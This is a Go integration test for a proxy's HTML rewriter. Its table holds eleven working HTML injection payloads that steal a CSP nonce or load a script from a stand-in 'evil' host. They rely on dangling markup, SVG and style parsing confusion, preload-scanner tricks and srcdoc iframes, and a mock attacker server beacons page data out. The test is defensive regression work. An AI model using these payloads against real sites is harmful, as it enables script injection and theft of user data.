package integration

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"chatproxy/csp"
	"chatproxy/integration/browsers"
)

// A leak is markup with which an injector once had the nonce, or a script of his
// with it. GOOD in it is the start tag of a script that a rule allows, up to its ">",
// EVIL his host, and EVILBS the same written with backslashes.
type leak struct {
	name string
	page string // what he injects
	// sent is what it once became: the control. Most of it is the page as it is, with
	// the nonce on the allowed script.
	sent string
	// in are the engines that fell for it; none stands for all.
	in []browsers.Engine
}

var leaks = []leak{
	{"a suffix of the address", `<script src=good nonce=""/..\evil\x.js></script>`, `<script nonce="N" src=good/..\evil\x.js></script>`, nil},
	{"a value for a name", `<script src onload=1 =EVILBS\x.js></script>`, `<script nonce="N" src =EVILBS\x.js></script>`, nil},
	{"an element that is closed", `<svg/nonce><style><!--</style><img src='EVIL/?--></style></svg>GOOD></script>'>`,
		`<svg/><style><!--</style><img src='EVIL/?--></style></svg>GOOD nonce=N></script>'>`, nil},
	{"an element that is not closed", `<svg a=b nonce=""/><style><img src='EVIL/?</style>GOOD></script>'>`,
		`<svg a=b/><style><img src='EVIL/?</style>GOOD nonce=N></script>'>`, nil},
	{"a tag of two texts", `<<script>bad</script>img src='EVIL/?GOOD></script>'>`, `<img src='EVIL/?GOOD nonce=N></script>'>`, nil},
	{"an end tag in two cases", `<svg><foreignObject><math></foreignObject><mi><style><!--</style><img src='EVIL/?--></style></mi></svg>GOOD></script>'>`, "",
		[]browsers.Engine{browsers.Chromium, browsers.WebKit}},
	{"a paragraph's end", `<svg><desc><p><div></div></p></desc><style><!--</style><img src='EVIL/?--></style></svg>GOOD></script>'>`, "",
		[]browsers.Engine{browsers.Chromium, browsers.Firefox}},
	{"a preload of raw text", `GOOD></script><svg><style><!--</style><img src='EVIL/?--></style></svg>GOOD></script>'>`, "",
		[]browsers.Engine{browsers.Chromium, browsers.WebKit}},
	{"a preload of CDATA", `GOOD></script><svg><![CDATA[><img src='EVIL/?]]></svg>GOOD></script>'>`, "",
		[]browsers.Engine{browsers.Chromium, browsers.WebKit}},
	{"a mark in a srcdoc", `<iframe srcdoc='&#xFEFF;<frameset><script type=x><frame src=&#39;EVIL/?</script>GOOD></script>&#39;>'></iframe>`, "", nil},
	{"noscript in a sandbox", `<iframe sandbox srcdoc="<noscript><img src='EVIL/?</noscript>GOOD></script>'>"></iframe>`, "", nil},
}

// Each was found by a review, and worked. No browser may send the nonce to the
// injector, nor run a script of his, behind the rewriter; each must without.
func TestNonceDoesNotLeak(t *testing.T) {
	nonce, err := csp.ParseNonce("chatproxyNonceForThisTest0")
	if err != nil {
		t.Fatal(err)
	}
	for _, engine := range browsers.All {
		t.Run(string(engine), func(t *testing.T) {
			var loot lines
			evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "text/javascript")
				if strings.HasSuffix(r.URL.Path, "/x.js") {
					fmt.Fprintf(w, `new Image().src="http://%s/ran?"+document.title`, r.Host)
					return
				}
				fmt.Fprintf(&loot, "[%s]", r.URL)
			}))
			t.Cleanup(evil.Close)
			pages := map[string]string{}
			site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Security-Policy", "script-src 'nonce-"+nonce.String()+"'; base-uri 'none'; object-src 'none'")
				switch page, ok := pages[r.URL.Path]; {
				case ok:
					w.Header().Set("Content-Type", "text/html; charset=utf-8")
					fmt.Fprintf(w, "<!doctype html><title>%s</title>%s", strings.TrimPrefix(r.URL.Path, "/"), page)
				case strings.Contains(r.URL.Path, "evil"):
					http.Redirect(w, r, evil.URL+"/x.js", http.StatusFound)
				default:
					// While the parser waits for it, the preload scanner runs ahead.
					time.Sleep(100 * time.Millisecond)
					w.Header().Set("Content-Type", "text/javascript")
				}
			}))
			t.Cleanup(site.Close)
			b := browsers.Start(t, engine)
			for i, l := range leaks {
				fill := strings.NewReplacer("EVILBS", strings.ReplaceAll(strings.TrimPrefix(evil.URL, "http:"), "/", `\`), "EVIL", evil.URL)
				// The address tells which case a request is of.
				mark := fmt.Sprintf("case%d", i)
				page := fill.Replace(strings.ReplaceAll(l.page, "EVIL/?", "EVIL/?"+mark+"-behind"))
				out, _, _ := rewritten(t, nonce, strings.ReplaceAll(page, "GOOD", "<script src=good"))
				pages["/"+mark+"-behind"] = out
				b.Open(site.URL + "/" + mark + "-behind")
				settle(b)
				if got := loot.String(); strings.Contains(got, mark+"-behind") && (strings.Contains(got, nonce.String()) || strings.Contains(got, "/ran")) {
					t.Errorf("%s\n page %s\n sent %s\n the injector got %s", l.name, page, out, got)
				}
				loot.reset()

				if len(l.in) > 0 && !slices.Contains(l.in, engine) {
					continue
				}
				control := l.sent
				if control == "" {
					control = strings.ReplaceAll(l.page, "GOOD", "GOOD nonce=N")
				}
				control = fill.Replace(strings.ReplaceAll(control, "EVIL/?", "EVIL/?"+mark+"-control"))
				control = strings.NewReplacer("GOOD", "<script src=good", "=N", "="+nonce.String(), `="N"`, `="`+nonce.String()+`"`).Replace(control)
				pages["/"+mark+"-control"] = control
				b.Open(site.URL + "/" + mark + "-control")
				settle(b)
				if got := loot.String(); !strings.Contains(got, mark+"-control") || !strings.Contains(got, nonce.String()) && !strings.Contains(got, "/ran") {
					t.Errorf("control: %s does not leak\n sent %s\n the injector got %q", l.name, control, got)
				}
				loot.reset()
			}
		})
	}
}
